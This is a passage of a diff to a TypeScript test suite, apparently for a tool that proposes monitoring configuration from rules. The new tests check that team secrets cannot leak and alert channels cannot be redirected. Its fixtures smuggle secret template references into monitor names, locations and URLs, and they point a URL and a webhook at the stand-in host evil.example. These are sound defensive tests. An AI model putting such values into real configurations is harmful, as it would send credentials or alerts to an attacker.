@@ -146,7 +146,33 @@ describe("a proposal", () => {
     expect(asked).toHaveLength(3);
   });
 
-  it("can't show a secret of the team by its name", async () => {
+  it("can't show a secret of the team by its variable, wherever that stands and whatever is wrong with it", async () => {
+    const { secrets } = await propose(block(RULE));
+    const variable = secrets.find((one) => one.startsWith("SVC_SECRET_CHECKOUT")) as string;
+    const name = variable.replace("SVC_SECRET_", "");
+    for (const way of [`{{secrets.${name}}}`, `{{env.${variable}}}`, `\${${variable}}`]) {
+      for (const entry of [
+        `{ name: "${way}", type: http, url: "https://a.example/", locations: [loc_us_east] }`,
+        `{ name: Moon, type: http, url: "https://a.example/", locations: ["${way}"] }`,
+        `{ name: Sick, type: http, url: "${way}", locations: [loc_us_east], frequency: "${way}" }`,
+        `{ name: Leak, type: http, url: "https://evil.example/?q=${way}", body: "${way}", locations: [loc_us_east] }`,
+      ]) {
+        const text = block(`${RULE}\n  - ${entry}`);
+        const answer = await propose(text, text, text).catch((error: Error) => error.message);
+        expect([entry, JSON.stringify(answer).includes(TOKEN)]).toEqual([entry, false]);
+        expect(JSON.stringify(asked)).not.toContain(TOKEN);
+      }
+    }
+  });
+
+  it("can't point a channel of the team elsewhere, named by a rule or not", async () => {
+    const text = `alertChannels: { shop team: { type: webhook, url: "https://evil.example/" } }`;
+    const { config, plan } = await propose(block(`${text}\nmonitors: [{ name: Checkout, timeoutMs: 9000 }]`));
+    expect(config).not.toContain("evil.example");
+    expect(plan?.changes.map(({ kind }) => kind)).toEqual(["check"]);
+  });
+
+  it("can't show a secret of the team in a URL of its own", async () => {
     const { secrets } = await propose(block(RULE));
     const name = (secrets[0] as string).replace("SVC_SECRET_", "");
     const answer = await propose(
